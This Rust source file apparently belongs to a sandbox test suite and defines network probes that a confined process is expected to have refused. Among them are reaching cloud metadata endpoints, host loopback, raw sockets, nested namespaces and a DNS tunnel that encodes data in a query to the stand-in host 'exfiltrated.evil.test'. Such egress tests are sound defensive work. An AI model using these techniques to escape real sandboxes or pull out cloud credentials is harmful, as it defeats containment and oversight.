//! Attempts by the network: connections, datagrams, names.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};

use nix::sched::{CloneFlags, unshare};
use rustix::net::{AddressFamily, Protocol, SocketFlags, SocketType, ipproto, socket_with};

use super::attempt::{Stopped, Tried, all, each};
use super::reach::{self, A, TXT};
use super::{Attempt, Targets, Wants};

/// What is tried by the network.
pub(super) const ATTEMPTS: [Attempt; 26] = [
    works("name", "connect to a name that is allowed", name),
    works("name-by-proxy", "the same by the proxy", name_by_proxy),
    works("address", "connect to this host's addresses, where they are allowed", address),
    works("own-loopback", "UDP to a socket of its own", own_loopback),
    refused("tcp4", "connect to IPv4 addresses, without any variable set", tcp4),
    refused("tcp6", "connect to IPv6 addresses, without any variable set", tcp6),
    refused("fast-open", "TCP with data in the first packet", fast_open),
    refused("mptcp", "multipath TCP", mptcp),
    refused("host-loopback", "connect to services on this host's loopback", host_loopback),
    refused("host-loopback-by-proxy", "the same by the proxy", host_loopback_by_proxy),
    refused("metadata", "connect to the metadata services of clouds", metadata),
    refused("metadata-by-proxy", "the same by the proxy", metadata_by_proxy),
    refused("name-refused", "look up a name that is not allowed", name_refused),
    refused("name-refused-by-proxy", "ask the proxy for it", name_refused_by_proxy),
    refused("dns-tunnel", "put data into the names of questions", dns_tunnel),
    refused("dns-txt", "ask for records that carry data", dns_txt),
    refused("dns-direct", "ask a name server outside by UDP", dns_direct),
    refused("dns-direct-tcp", "ask a name server outside by TCP", dns_direct_tcp),
    refused("dns-over-tls", "ask one on port 853", dns_over_tls),
    refused("dns-over-https", "ask one on port 443, by the proxy too", dns_over_https),
    refused("udp", "send datagrams (QUIC, WireGuard, STUN, NTP, this host)", udp),
    refused("icmp", "ICMP, with and without a raw socket", icmp),
    refused("protocols", "raw sockets, SCTP, packets, other families", protocols),
    refused("routes", "change addresses and routes by netlink", routes),
    refused("nested-routes", "the same in a user namespace within", nested_routes),
    refused("nested-network", "connect from a network namespace within", nested_network),
];

const fn works(name: &'static str, what: &'static str, run: fn(&Targets) -> Tried) -> Attempt {
    Attempt { name, what, wants: Wants::Works, run }
}

const fn refused(name: &'static str, what: &'static str, run: fn(&Targets) -> Tried) -> Attempt {
    Attempt { name, what, wants: Wants::Refused, run }
}

/// Addresses that are nobody's (RFC 5737, RFC 3849): what a hole lets through to them hurts nobody.
const NOBODY_V4: IpAddr = IpAddr::V4(Ipv4Addr::new(198, 51, 100, 53));
const NOBODY_V6: IpAddr = IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x53));

/// Where clouds tell machines their secrets.
const METADATA: [IpAddr; 3] = [
    IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)),
    IpAddr::V6(Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254)),
    // The same as the first one, for those that look at families apart.
    IpAddr::V6(Ipv6Addr::new(0, 0, 0, 0, 0, 0xffff, 0xa9fe, 0xa9fe)),
];

const DNS: u16 = 53;
const HTTP: u16 = 80;
const HTTPS: u16 = 443;
const DNS_OVER_TLS: u16 = 853;
/// QUIC, WireGuard, STUN, time.
const DATAGRAM_PORTS: [u16; 4] = [HTTPS, 51820, 3478, 123];

/// A name that no entry allows, and what would be told in one.
const REFUSED_NAME: &str = "evil.test";
const TUNNEL: &str = "736563726574.exfiltrated.evil.test";

/// The number of the protocol that is for experiments (RFC 3692).
const EXPERIMENT: u8 = 253;

/// One after the other, as far as they are asked for: what got through to a decoy goes no further.
fn pages(to: impl Iterator<Item = SocketAddr>, token: &str) -> impl Iterator<Item = (String, Tried)> {
    to.map(|to| (to.to_string(), reach::page(to, token)))
}

fn nobody(port: u16) -> impl Iterator<Item = SocketAddr> {
    [NOBODY_V4, NOBODY_V6].into_iter().map(move |ip| SocketAddr::new(ip, port))
}

fn name(targets: &Targets) -> Tried {
    let address = reach::lookup(&targets.name, A)?;
    reach::page(SocketAddr::new(address, targets.open_port), &targets.token)
}

fn name_by_proxy(targets: &Targets) -> Tried {
    reach::page_by_proxy(&format!("{}:{}", targets.name, targets.open_port), &targets.token)
}

fn address(targets: &Targets) -> Tried {
    all(pages(targets.open.iter().copied(), &targets.token))
}

fn own_loopback(_: &Targets) -> Tried {
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
    socket.send_to(b"own", socket.local_addr()?)?;
    let (count, _) = socket.recv_from(&mut [0; 8])?;
    Ok(format!("{count} bytes came back"))
}

fn tcp4(targets: &Targets) -> Tried {
    let shut = targets.shut.iter().copied().chain(nobody(HTTPS));
    each(pages(shut.filter(SocketAddr::is_ipv4), &targets.token))
}

fn tcp6(targets: &Targets) -> Tried {
    let shut = targets.shut.iter().copied().chain(nobody(HTTPS));
    each(pages(shut.filter(SocketAddr::is_ipv6), &targets.token))
}

fn fast_open(targets: &Targets) -> Tried {
    let shut = targets.shut.iter().copied().chain(nobody(HTTPS));
    each(shut.map(|to| (to.to_string(), reach::page_at_once(to, &targets.token))))
}

fn mptcp(targets: &Targets) -> Tried {
    let shut = targets.shut.iter().copied().chain(nobody(HTTPS));
    each(shut.map(|to| (to.to_string(), reach::page_by(to, ipproto::MPTCP, &targets.token))))
}

fn host_loopback(targets: &Targets) -> Tried {
    each(pages(targets.loopback.iter().copied(), &targets.token))
}

fn host_loopback_by_proxy(targets: &Targets) -> Tried {
    each(
        targets
            .loopback
            .iter()
            .map(|to| (to.to_string(), reach::page_by_proxy(&to.to_string(), &targets.token))),
    )
}

fn metadata(targets: &Targets) -> Tried {
    each(pages(METADATA.into_iter().map(|ip| SocketAddr::new(ip, HTTP)), &targets.token))
}

fn metadata_by_proxy(targets: &Targets) -> Tried {
    let names = ["metadata.google.internal:80".to_owned()].into_iter();
    let to = METADATA.into_iter().map(|ip| SocketAddr::new(ip, HTTP).to_string()).chain(names);
    each(to.map(|to| (to.clone(), reach::page_by_proxy(&to, &targets.token))))
}

fn name_refused(_: &Targets) -> Tried {
    reach::lookup(REFUSED_NAME, A).map(|address| address.to_string())
}

fn name_refused_by_proxy(targets: &Targets) -> Tried {
    reach::page_by_proxy(&format!("{REFUSED_NAME}:443"), &targets.token)
}

fn dns_tunnel(targets: &Targets) -> Tried {
    // Below a name that is allowed, too: the name alone is.
    let names = [TUNNEL.to_owned(), format!("736563726574.{}", targets.name)];
    each(names.map(|name| (name.clone(), reach::lookup(&name, A).map(|address| address.to_string()))))
}

fn dns_txt(targets: &Targets) -> Tried {
    reach::lookup(&targets.name, TXT).map(|address| address.to_string())
}

fn dns_direct(targets: &Targets) -> Tried {
    let question = reach::question(&targets.name, A);
    each(nobody(DNS).map(|to| (to.to_string(), datagram(to, &question))))
}

fn dns_direct_tcp(targets: &Targets) -> Tried {
    each(pages(nobody(DNS), &targets.token))
}

fn dns_over_tls(targets: &Targets) -> Tried {
    each(pages(nobody(DNS_OVER_TLS), &targets.token))
}

fn dns_over_https(targets: &Targets) -> Tried {
    let by_proxy = ["dns.test:443", "198.51.100.53:443"];
    let by_proxy = by_proxy.iter().map(|to| ((*to).to_owned(), reach::page_by_proxy(to, &targets.token)));
    each(pages(nobody(HTTPS), &targets.token).chain(by_proxy))
}

fn datagram(to: SocketAddr, data: &[u8]) -> Tried {
    reach::datagram(to, data).map(|answer| format!("{} bytes came back", answer.len()))
}

fn udp(targets: &Targets) -> Tried {
    let elsewhere = DATAGRAM_PORTS.into_iter().flat_map(nobody);
    each(elsewhere.chain(targets.datagrams.iter().copied()).map(|to| (to.to_string(), datagram(to, b"x"))))
}

fn icmp(_: &Targets) -> Tried {
    let kinds = [(AddressFamily::INET, ipproto::ICMP), (AddressFamily::INET6, ipproto::ICMPV6)];
    each(kinds.into_iter().flat_map(|(family, protocol)| {
        [SocketType::DGRAM, SocketType::RAW]
            .map(|kind| (format!("{family:?} {kind:?}"), open(family, kind, Some(protocol))))
    }))
}

fn protocols(_: &Targets) -> Tried {
    let raw = |number: u8| std::num::NonZero::new(u32::from(number)).map(Protocol::from_raw);
    each([
        ("SCTP".to_owned(), open(AddressFamily::INET, SocketType::STREAM, Some(ipproto::SCTP))),
        ("GRE".to_owned(), open(AddressFamily::INET, SocketType::RAW, Some(ipproto::GRE))),
        ("IP 253".to_owned(), open(AddressFamily::INET, SocketType::RAW, raw(EXPERIMENT))),
        ("packets".to_owned(), open(AddressFamily::PACKET, SocketType::RAW, None)),
        ("virtual machines".to_owned(), open(AddressFamily::VSOCK, SocketType::STREAM, None)),
        ("Bluetooth".to_owned(), open(AddressFamily::BLUETOOTH, SocketType::RAW, None)),
    ])
}

fn open(family: AddressFamily, kind: SocketType, protocol: Option<Protocol>) -> Tried {
    socket_with(family, kind, SocketFlags::CLOEXEC, protocol)?;
    Ok("a socket was made".to_owned())
}

fn routes(_: &Targets) -> Tried {
    crate::network::bring_up()?;
    Ok("the device and its routes were changed".to_owned())
}

fn nested_routes(targets: &Targets) -> Tried {
    unshare(CloneFlags::CLONE_NEWUSER).map_err(nested)?;
    routes(targets)
}

fn nested_network(targets: &Targets) -> Tried {
    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNET).map_err(nested)?;
    crate::network::bring_up()?;
    let shut = targets.open.iter().chain(&targets.shut).copied().chain(nobody(HTTPS));
    each(pages(shut, &targets.token))
}

/// Where no user may make namespaces, there is none within either.
pub(super) fn nested(error: nix::errno::Errno) -> Stopped {
    Stopped::NotHere(format!("namespaces within cannot be made: {error}"))
}
